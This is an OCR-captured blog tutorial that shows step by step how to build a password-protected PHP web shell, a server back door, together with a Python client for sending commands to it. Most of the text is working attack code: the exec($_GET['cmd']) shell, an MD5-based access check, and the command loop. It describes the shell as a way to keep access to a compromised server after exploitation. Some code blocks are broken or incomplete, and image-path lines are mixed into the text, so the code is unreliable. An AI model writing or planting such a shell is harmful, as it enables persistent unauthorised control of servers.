Build A Simple Web shell

HacksLand | The computer science playground

Posted by Thilan Dissanayaka on Sep 08, 2019

A web shell is a piece of code that written to get control over a web server. It is helpful for post exploitation attacks. We can use a web shell to maintain access to theserver. There are various types of shells. Some are designed to work with PHP environments while others work on ASP server. Some web shells provide a reverse connection while others give a bind connection.

A known example for a web shell is c99. Also there is a great tool called weevly that allow you to create a PHP shell quickly. Using weevly you can do various things such as set a password to shell, run multiple commands, encrypt the script etc

In this document we are going to see how we can develop a very basic web shell. This shell is for a PHP environment. So we can use PHP to code it.

Before we continue let's understand some theories. The primary goal of a web shell is to run some given commands on the server. Since we are using PHP , we have to check how we can execute system commands in a PHP script.

In PHP there are several functions such as system(), exec() etc to accomplish this task. Both of system and exec function do the same. These functions get a valid unix command as the argument and execute it on the server. The system function will print the result while exec function don't print. If we want to get the output of exec function we can use echo command.Now it is time to start building our script. Hear is the PHP script that we are using to make a back door on the server.

Following code is the absolute basic stage of our shell.

echo '<pre>'. exec($_GET['cmd']) .'</pre>';

This code will fetch the http GET parameter called 'cmd' and put it as a argument for exec() function. After it'll print the result in a pre wrapper. Hear we used the HTML pre wrapper to display output correctly.

Actualy this is the asic principle of whole script. Let's try this on a server. I'll use my localhost.

When I request the script with my command as cmd parameter, it executed the command and prined the output. Great. It's working. What else we can do?

Add error handling

What happen if I don't enter the cmd parameter. It'll cause to a runtime error. Because the script tries to fetch that but no parameter was suplied.

It is a good programming practice to do error handling whenever we can. So we can reduce runtime errors. As a solution we can write a code as following.if (isset($_GET['cmd']) && !empty($_GET['cmd'])) {
    echo '<pre>'. exec($_GET['cmd']) .'</pre>';


In the begining we check GET parameter. If cmd parameter is not suplied or is empty we don't excecute the command and exit the script. If user has given the cmd parameter we run it.

Controlling the access to the shell

After we upload the shell to a server, anyone can use it to control the server. So we need to limit the access by adding a authentication system. We can use following script as a solution.

define('PASSWORD', 'f8b60df48fae35dfa126a1b6ccc3ceed');

function auth($password)
    $input_password_hash = md5($password);

    if (strcmp(PASSWORD, $input_password_hash) == 0) {
        return TRUE;
        return FALSE;

if (isset($_GET['cmd']) && !empty($_GET['cmd'])&& isset($_GET['password'])) {
    if (auth($_GET['password'])) {
            echo '<pre>'. exec($_GET['cmd']) .'</pre>';
        die('Access denide!');


We declared a function called auth() to compare given password and the stored one. Actually hear we compare md5 hashes. (If you want you may even use a salted hash). Then we give access to the shell if only two hashes are matched.

Creating a Python client

As the next step we are going to build a little Python script to access the shell. Using this script is very easy than accessing shell from a web browser. We can use a library like requests, urlib2 etc for this purpose.

Let's see how we can do this with the request library

import requests
from bs4 import BeautifulSoup

target = ""
password = "hacksland"
while 1:
    cmd = str(input("$ "))
        r = requests.get(target, params={'cmd': cmd, 'password':password})
        soup = BeautifulSoup(r.text, 'html.parser')
    except requests.exceptions.RequestException as e:I also used the BeautifulSoup library to format the output and get required data.

So this is the all for this document. In next article we are going to see how we can develop a GUI web shell. Stay tuned.

Hi, I'm Thilan. An engineering student from SriLanka. I love tocode with Python, JavaScript PHP and C.

Also read

Aug 12
Error Handling | Python Programming

Errors are absolutely normal when programming. You mayget hundred of errors while learning. Not....

Apr 09
C programming array tutorial

In a previous article we discussed how we can declare and use variables in C. We know a variable is....

Aug 12
Linux file handling

1) Creating an empty file. We can use touch command for make a new filein Linux. Syntax is....